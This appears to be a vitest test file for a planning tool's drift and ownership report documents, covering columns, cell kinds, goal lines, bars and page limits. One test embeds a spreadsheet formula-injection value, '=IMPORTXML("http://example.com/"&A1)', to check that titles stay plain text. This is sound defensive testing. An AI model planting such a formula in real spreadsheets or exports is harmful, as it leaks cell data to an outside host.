import { describe, expect, test } from 'vitest';
import type { ReportSection } from '../../src/report/document';
import { driftReport } from '../../src/report/drift-report';
import { driftReportDocument } from '../../src/report/drift-report-document';
import { MOST_ON_PAGE } from '../../src/report/list-section';
import { ownershipReport } from '../../src/report/ownership-report';
import { ownershipReportDocument } from '../../src/report/ownership-report-document';
import { assessmentOn, day, reason, type SampleRow } from './assessment-builder';

const documentOf = (rows: readonly SampleRow[]) =>
  driftReportDocument(driftReport(assessmentOn('2026-11-23', rows), []));

function sectionOf(rows: readonly SampleRow[], heading: string): ReportSection {
  const section = documentOf(rows).sections.find(entry => entry.heading === heading);
  if (!section) throw new RangeError(`No section ${heading}.`);
  return section;
}

const DRIFT = 'Goals and milestones that drift';

describe('the table of drifts', () => {
  const section = sectionOf(
    [
      {
        id: 'M2',
        title: 'Move ten clients',
        status: 'Red',
        driftWorkingDays: 11.6,
        progress: -0.1,
        expected: 0.55,
        forecast: { kind: 'finish', day: day('2027-01-14'), slipWorkingDays: 19, pace: 0.6 },
        reasons: [reason('behind plan', 'Behind.', 'Reach 62 %.'), reason('silent', 'Silent.')],
      },
    ],
    DRIFT,
  );

  test('fits a page: status, item, owner, figures, why, and what lifts it', () => {
    expect(section.table?.columns.map(({ heading }) => heading)).toEqual([
      'Status',
      'Item',
      'Owner',
      'Line',
      'Working days behind',
      'Progress',
      'Forecast',
      'Why',
      'What lifts it',
    ]);
  });

  test('keeps numbers, shares and days as what they are, with progress never below 0', () => {
    expect(section.table?.rows[0]).toEqual([
      { kind: 'status', status: 'Red' },
      { kind: 'item', item: { id: 'M2', title: 'Move ten clients' }, above: [] },
      { kind: 'text', text: 'Elena Petrova' },
      { kind: 'blank' },
      { kind: 'number', value: 12 },
      { kind: 'share', value: 0 },
      { kind: 'day', day: day('2027-01-14') },
      { kind: 'text', text: 'Behind. (+1 more)' },
      { kind: 'text', text: 'Reach 62 %.' },
    ]);
  });

  test('names the rows that lead to no goal', () => {
    expect(section.paragraphs).toEqual(['M2 leads to no goal.']);
  });
});

test('each drift stands on its line, from the worst task below it up to its goal', () => {
  const plan: SampleRow[] = [
    { id: 'G1', status: 'Red', driftWorkingDays: 1 },
    { id: 'M1', in: 'G1', status: 'Amber', driftWorkingDays: 30 },
    { id: 'M2', in: 'G1', status: 'Red', driftWorkingDays: 9 },
    { id: 'T1', in: 'M2', status: 'Amber', driftWorkingDays: 8 },
    { id: 'T2', in: 'M2', status: 'Red', driftWorkingDays: 2 },
    { id: 'T3', in: 'G1', status: 'Red', driftWorkingDays: 20 },
  ];
  const lines = (heading: string) =>
    sectionOf(plan, heading).table?.rows.map(cells => {
      const cell = cells[3];
      return cell?.kind === 'text' ? cell.text : '';
    });
  expect(lines(DRIFT)).toEqual(['T2 → M2 → G1', 'T2 → M2 → G1', 'M1 → G1']);
  expect(lines('Tasks that drift')).toEqual(['T3 → G1', 'T2 → M2 → G1', 'T1 → M2 → G1']);
});

test('the bars are the goals and milestones farthest behind, tasks and what is ahead left out', () => {
  const { bars } = documentOf([
    { id: 'M1', title: 'Sell', status: 'Amber', driftWorkingDays: 12.4 },
    { id: 'M2', title: 'Hire', status: 'Red', driftWorkingDays: 3 },
    { id: 'M3', status: 'Red', driftWorkingDays: -4 },
    { id: 'T1', status: 'Red', driftWorkingDays: 40 },
  ]);
  expect(bars?.bars).toEqual([
    { name: 'M1 · Sell', value: 12 },
    { name: 'M2 · Hire', value: 3 },
  ]);
});

test('every row of every table has one cell a column', () => {
  const { sections } = documentOf([
    { id: 'G1', status: 'Red', owner: '', reasons: [reason('silent', 'Silent.')] },
    { id: 'M1', in: 'G1', status: 'On hold' },
    { id: 'T1', in: 'M1', status: 'Amber', due: '2026-11-25' },
  ]);
  expect(sections.map(({ heading }) => heading)).toEqual([
    'Where the plan stands',
    DRIFT,
    'Tasks that drift',
    'Silence: rows without the check-in that was due',
    'Ownership gaps',
    'Due within two weeks',
    'Put on hold',
  ]);
  for (const { table } of sections) {
    for (const row of table?.rows ?? []) expect(row).toHaveLength(table?.columns.length ?? 0);
  }
});

test('what a full page leaves out is counted', () => {
  const rows = Array.from(
    { length: MOST_ON_PAGE + 3 },
    (_, at): SampleRow => ({ id: `M${at + 1}`, status: 'Red' }),
  );
  const section = sectionOf(rows, DRIFT);
  expect(section.table?.rows).toHaveLength(MOST_ON_PAGE);
  expect(section.remainder).toBe('And 3 more rows, not listed here.');
});

test('a title that looks like a formula stays the text that it is', () => {
  const title = '=IMPORTXML("http://example.com/"&A1)';
  const section = sectionOf([{ id: 'M1', title, status: 'Red' }], DRIFT);
  expect(section.table?.rows[0]?.[1]).toMatchObject({ kind: 'item', item: { id: 'M1', title } });
});

test('a plan in which nothing drifts shows its counts and no empty tables', () => {
  expect(documentOf([{ id: 'M1' }]).sections.map(({ heading }) => heading)).toEqual([
    'Where the plan stands',
  ]);
});

test('a problem does not repeat the cell that stands beside it', () => {
  const problem = {
    code: 'not-a-date',
    cell: 'Tasks!E9',
    message: 'Tasks!E9: due "soon" is not a date. Enter one such as 2026-02-28.',
  } as const;
  const { sections } = driftReportDocument(driftReport(assessmentOn('2026-11-23', []), [problem]));
  expect(sections[0]?.table?.rows).toEqual([
    [
      { kind: 'text', text: 'Tasks!E9' },
      { kind: 'text', text: 'Due "soon" is not a date. Enter one such as 2026-02-28.' },
    ],
  ]);
});

test('the ownership document says whom to name, when the row is due, and which date is in danger', () => {
  const owner = { kind: 'team', team: 'Delivery', probably: 'Ingrid Olsen' } as const;
  const reasons = [
    reason('no single owner', 'Delivery is a team.', 'Name one person, probably Ingrid Olsen.'),
  ];
  const assessment = assessmentOn('2026-11-23', [
    { id: 'M1', owner, due: '2026-12-01', reasons },
    { id: 'T1', in: 'M1', owner, due: '2026-11-27', reasons },
  ]);
  const [section] = ownershipReportDocument(ownershipReport(assessment)).sections;
  const [ofMilestone, ofTask] = section!.table!.rows.map(cells => cells.slice(1));
  expect(ofMilestone).toEqual([
    { kind: 'text', text: 'a team: Delivery' },
    { kind: 'text', text: 'itself' },
    { kind: 'day', day: day('2026-12-01') },
    { kind: 'text', text: 'Delivery is a team. Name one person, probably Ingrid Olsen.' },
  ]);
  expect(ofTask?.slice(1, 3)).toEqual([
    { kind: 'text', text: 'M1, 1 Dec' },
    { kind: 'day', day: day('2026-11-27') },
  ]);
});
